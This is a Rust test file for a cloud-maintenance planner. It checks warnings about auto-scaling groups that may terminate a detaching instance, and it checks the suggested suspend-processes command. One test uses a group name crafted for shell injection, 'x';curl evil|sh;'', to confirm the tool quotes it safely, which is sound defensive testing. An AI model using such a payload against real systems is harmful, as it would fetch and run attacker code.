use super::*;
use crate::scene::scaling::{Membership, ScalingGroup};
use crate::testkit::things::{instance, interface, scaling_group};
use crate::testkit::{Bench, INSTANCE, settings};

/// An instance whose balancers can not be read: the warnings, with what is known of its membership and its group.
fn unread(captured: &Reading, now: Option<Reading>, group: Option<ScalingGroup>) -> Vec<String> {
    let mut bench = Bench::new(settings());
    let query = || S::Membership(INSTANCE.into());
    bench.capture(query(), captured.clone());
    bench.know(S::Instance(INSTANCE.into()), Reading::Instance(Box::new(instance(&[]))));
    bench.know(S::Interfaces(INSTANCE.into()), Reading::Interfaces(vec![interface("eni-1", &["sg-1"])]));
    bench.know(S::ClassicBalancers(INSTANCE.into()), Reading::Classic(Vec::new()));
    bench.deny(S::TargetGroups);
    if let Some(now) = now {
        bench.know(query(), now);
    }
    if let Some(group) = group {
        bench.know(S::ScalingGroup(group.name.clone()), Reading::ScalingGroup(group.into()));
    }
    let agenda = bench.plan(&CARD);
    assert_eq!(agenda.holds.len(), 1);
    agenda.warnings
}

fn member(group: &str, lifecycle: &str) -> Reading {
    let (lifecycle, health) = (lifecycle.to_owned(), "HEALTHY".to_owned());
    Reading::Membership(Some(Membership { group: group.into(), lifecycle, health, protected: false }))
}

const NONE: Reading = Reading::Membership(None);

#[test]
fn what_can_not_be_taken_off_says_that_the_group_may_end_the_instance() {
    let leaves = || member("web", "Detaching");
    let command = "suspend-processes --auto-scaling-group-name 'web' --scaling-processes ReplaceUnhealthy Terminate";
    for (captured, now) in [(leaves(), None), (leaves(), Some(leaves())), (NONE, Some(leaves()))] {
        let warnings = unread(&captured, now, None);
        assert!(warnings.iter().any(|warning| warning.contains(command)), "{warnings:?}");
    }
    for (captured, now) in [(NONE, None), (leaves(), Some(NONE)), (leaves(), Some(member("web", "Standby")))] {
        assert_eq!(unread(&captured, now, None), Vec::<String>::new(), "no group that looks after it");
    }
}

#[test]
fn a_group_that_does_not_ask_its_balancers_or_ends_nothing_is_no_danger() {
    let group = |check: &str, suspended: &[&str]| ScalingGroup {
        name: "web".into(),
        health_check: check.into(),
        suspended: suspended.iter().map(ToString::to_string).collect(),
        ..scaling_group()
    };
    let warned = |group| unread(&member("web", "Detaching"), None, Some(group)).len();
    assert_eq!(warned(group("ELB", &[])), 1);
    assert_eq!(warned(group("ELB", &["Terminate"])), 1);
    assert_eq!(warned(group("ELB", &KILLING)), 0);
    assert_eq!(warned(group("EC2", &[])), 0);
}

#[test]
fn a_name_that_somebody_chose_is_no_command() {
    let warnings = unread(&member("x';curl evil|sh;'", "Detaching"), None, None);
    assert!(warnings[0].contains(r"--auto-scaling-group-name 'x'\'';curl evil|sh;'\''' --scaling"), "{warnings:?}");
}
